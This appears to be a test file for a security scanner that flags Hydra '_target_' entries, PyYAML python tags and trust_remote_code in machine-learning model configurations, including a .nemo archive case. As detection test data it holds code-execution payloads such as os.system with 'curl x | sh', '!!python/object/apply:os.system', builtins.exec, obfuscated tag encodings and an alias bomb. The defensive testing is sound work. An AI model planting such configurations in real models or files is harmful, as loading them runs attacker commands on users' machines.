import { gzipSync } from "node:zlib";
import { hydraConfig } from "../../src/formats/hydra-config";
import { lines, scanBytes } from "../support/scan";
import { claims } from "../support/see";
import { tar } from "../support/tar-builder";

const bytes = (text: string) => new TextEncoder().encode(text);
const told = (text: string, context = {}) => lines(scanBytes(bytes(text), "conf/model.yaml", context).findings);

describe("hydra-config: what is claimed", () => {
  const claimed = (text: string, name = "a.yaml") => claims(hydraConfig, bytes(text), [name]);

  test.each([
    "a:\n  _target_: x.y",
    '"_t\\x61rget_": x.y',
    "a: !!python/name:x.y ''",
    "a: !<tag:yaml.org,2002:python/name:x.y> ''",
    "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:x.y ''",
    "a: !!pyth%6fn/name:x.y ''",
    "%TAG !p! tag:yaml%2Eorg,2002:py\n---\na: !p!thon/name:x.y ''",
    "trust_remote_code: false",
    "target: a.b.C\nparams:\n  x: 1",
  ])("%j", (text) => expect(claimed(text)).toBe(true));

  test.each([
    "a: 1",
    "build_target_dir: x",
    "args: [--trust-remote-code]",
    "if: ${{ !contains(a, 'python/') }}",
    "target: x.y",
    "target: f(x.y)\nparams: 1",
    "%TAG ! tag:example.com,2002:\n---\na: !x y",
    "a: !Ref b",
  ])("not %j", (text) => expect(claimed(text)).toBe(false));

  test("only YAML by its name", () => expect(claimed("_target_: x.y", "a.txt")).toBe(false));

  test("behind a megabyte of comments", () => expect(claimed(`${"# x\n".repeat(1 << 18)}_target_: x.y`)).toBe(true));
});

describe("hydra-config: targets", () => {
  test.each([
    ["builtins.exec", "critical"],
    ["os.system", "critical"],
    ["subprocess.Popen", "critical"],
    ["nemo.core.os.system", "critical"],
    ["torch.utils.cpp_extension.load_inline", "critical"],
    ["numpy.f2py.crackfortran.getlincoef", "critical"],
    ["torch.load", "high"],
    ["urllib.request.urlretrieve", "high"],
    ["shutil.rmtree", "high"],
    ["torch.hub.load", "high"],
  ])("%s is %s", (name, severity) =>
    expect(told(`model:\n  _target_: ${name}\n`)[0]).toMatch(new RegExp(`^${severity} MA-HUB-004 conf/model.yaml:2`)),
  );

  test("what it is called with is shown", () => {
    const [found] = scanBytes(bytes('_target_: os.system\n_args_: ["curl x | sh"]\n'), "a.yaml").findings;
    expect(found).toMatchObject({
      evidence: 'os.system("curl x | sh")',
      message: expect.stringContaining("_target_ names os.system, which starts programs"),
    });
  });

  test.each([
    "torch.optim.AdamW",
    "lightning.pytorch.loggers.WandbLogger",
    "pytorch_lightning.callbacks.ModelCheckpoint",
    "transformers.AutoModel.from_pretrained",
    "torchvision.datasets.MNIST",
    "functools.partial",
    "pathlib.Path",
    "builtins.dict",
    "os.path.join",
    "os.cpu_count",
    "pandas.read_csv",
    "wandb.init",
    "nemo.collections.asr.modules.ConformerEncoder",
    "torch.compile",
    "keras.models.Sequential",
    "hydra.utils.get_class",
    "???",
  ])("%s is silent", (name) => expect(told(`_target_: ${name}\n`)).toEqual([]));

  test("of one's own package is low, and silent where the base defines it", () => {
    expect(told("net:\n  _target_: src.models.Net\n")).toEqual([
      "low MA-HUB-005 conf/model.yaml:2: net._target_ names src.models.Net, which nobody has vouched for, and Hydra calls it",
    ]);
    const definesUnchanged = (module: string, name: string) => module === "src.commands" && name === "Net";
    expect(told("_target_: src.commands.Net\n", { definesUnchanged })).toEqual([]);
    expect(told("_target_: src.commands.Net\n")[0]).toMatch(/^low/);
  });

  test("through Hydra's finders, interpolation, an alias, escapes and flow style", () => {
    expect(told("_target_: hydra.utils.get_method\npath: os.system\n")[0]).toMatch(
      /^critical MA-HUB-004 .* names os\.system/,
    );
    expect(told("what: {name: os.system}\n_target_: ${what.name}\n")[0]).toMatch(/^critical/);
    expect(told("x: &a os.system\nb:\n  _target_: *a\n")[0]).toMatch(/^critical MA-HUB-004 conf\/model.yaml:3/);
    expect(told('{"\\x5ftarget_": "os\\x2esystem"}')[0]).toMatch(/^critical/);
    expect(told("a: [{b: {_target_: os.system}}]")[0]).toContain("a.0.b._target_ names os.system");
    expect(told("_target_: ${oc.env:CLASS}\n")).toEqual([
      "low MA-HUB-005 conf/model.yaml:1: _target_ is computed (${oc.env:CLASS}), and Hydra calls it",
    ]);
  });

  test("target with params, as latent diffusion has it", () => {
    expect(told("model:\n  target: ldm.models.LatentDiffusion\n  params:\n    a: 1\n")).toEqual([]);
    expect(told("model:\n  target: os.system\n  params:\n    command: id\n")[0]).toMatch(
      /^critical MA-HUB-004 conf\/model.yaml:2/,
    );
  });

  test("target at the root of NeMo's file", () => {
    const nemo = (target: string) =>
      lines(scanBytes(bytes(`target: ${target}\nlr: 1\n`), "x/model_config.yaml").findings);
    expect(nemo("os.system")[0]).toMatch(/^critical MA-HUB-004 x\/model_config.yaml:1/);
    expect(nemo("nemo.collections.asr.models.EncDecCTCModel")).toEqual([]);
  });

  test("trust_remote_code in a training configuration", () => {
    expect(told("model:\n  trust_remote_code: true\n")[0]).toMatch(/^medium MA-HUB-003 conf\/model.yaml:2/);
    expect(told("trust_remote_code: yes\n")[0]).toMatch(/^medium/);
    expect(told("trust_remote_code: false\n")).toEqual([]);
  });

  test("CVE-2025-23304: model_config.yaml inside a .nemo", () => {
    const config =
      "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: builtins.exec\n  _args_: ['import os']\n";
    const nemo = tar([{ name: "./model_config.yaml", data: bytes(config) }]);
    for (const file of [nemo, gzipSync(nemo)])
      expect(lines(scanBytes(file, "m.nemo").findings).filter((line) => line.includes("MA-HUB"))).toEqual([
        expect.stringMatching(
          /^critical MA-HUB-004 m\.nemo > .*model_config\.yaml:3: preprocessor\._target_ names builtins\.exec/,
        ),
      ]);
  });
});

describe("hydra-config: tags of PyYAML", () => {
  test.each([
    ["!!python/object/apply:os.system ['id']", "critical MA-HUB-004"],
    ["!!python/object/new:subprocess.Popen [['id']]", "critical MA-HUB-004"],
    ["!<tag:yaml.org,2002:python/object/apply:os.system> ['id']", "critical MA-HUB-004"],
    ["!!python%2Fobject/apply:os.system ['id']", "critical MA-HUB-004"],
    ["!!python/name:os.system ''", "high MA-HUB-004"],
    ["!!python/module:subprocess ''", "high MA-HUB-004"],
    ["!!python/object/apply:mine.Enum ['a']", "high MA-HUB-005"],
    ["!!python/object:mine.Thing {}", "high MA-HUB-005"],
    ["!!python/name:material.extensions.emoji.to_svg ''", "low MA-HUB-005"],
  ])("%s is %s", (text, begins) =>
    expect(told(`a: 1\nb: ${text}\n`)[0]).toMatch(new RegExp(`^${begins} conf/model.yaml:2`)),
  );

  test("through a %TAG", () =>
    expect(told("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n")[0]).toMatch(
      /^critical/,
    ));

  test.each([
    "!!python/tuple [1, 2]",
    "!!python/object:argparse.Namespace {a: 1}",
    "!!python/object/apply:pathlib.PosixPath [a]",
    "!!set {a}",
  ])("%s is silent", (text) => expect(told(`a: ${text}\n`)).toEqual([]));
});

describe("hydra-config: hostile text", () => {
  test("what is no YAML as a whole is read line by line, and said", () => {
    const found = told("a: 'b\n  c: [\nnet:\n  _target_: os.system\nx: !!python/object/apply:os.system [id]\n");
    expect(found).toContainEqual(expect.stringMatching(/^critical MA-HUB-004 conf\/model\.yaml:4/));
    expect(found).toContainEqual(expect.stringMatching(/^critical MA-HUB-004 conf\/model\.yaml:5/));
    expect(found).toContainEqual(expect.stringMatching(/^info MA-SYS-005/));
  });

  test.each([["[".repeat(20_000)], ["- ".repeat(20_000)], ["{a: ".repeat(20_000)]])(
    "nesting ends as malformed",
    (text) => expect(told(`# _target_\n${text}`).some((line) => line.startsWith("high MA-SYS-001"))).toBe(true),
  );

  test("aliases of aliases are not copied", () => {
    const bomb = Array.from({ length: 40 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}, *a${i}]`).join(
      "\n",
    );
    expect(told(`a0: &a0 {_target_: os.system}\n${bomb}\n`)).toHaveLength(1);
  });

  test("more than a configuration has is a limit", () =>
    expect(told(`_target_: torch.nn.ReLU\n${"# x\n".repeat(1 << 18)}`)[0]).toMatch(/^high MA-SYS-002/));

  test("UTF-16, which PyYAML reads too", () => {
    const text = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("_target_: os.system\n", "utf16le")]);
    expect(lines(scanBytes(text, "a.yaml").findings)[0]).toMatch(/^critical MA-HUB-004/);
  });
});
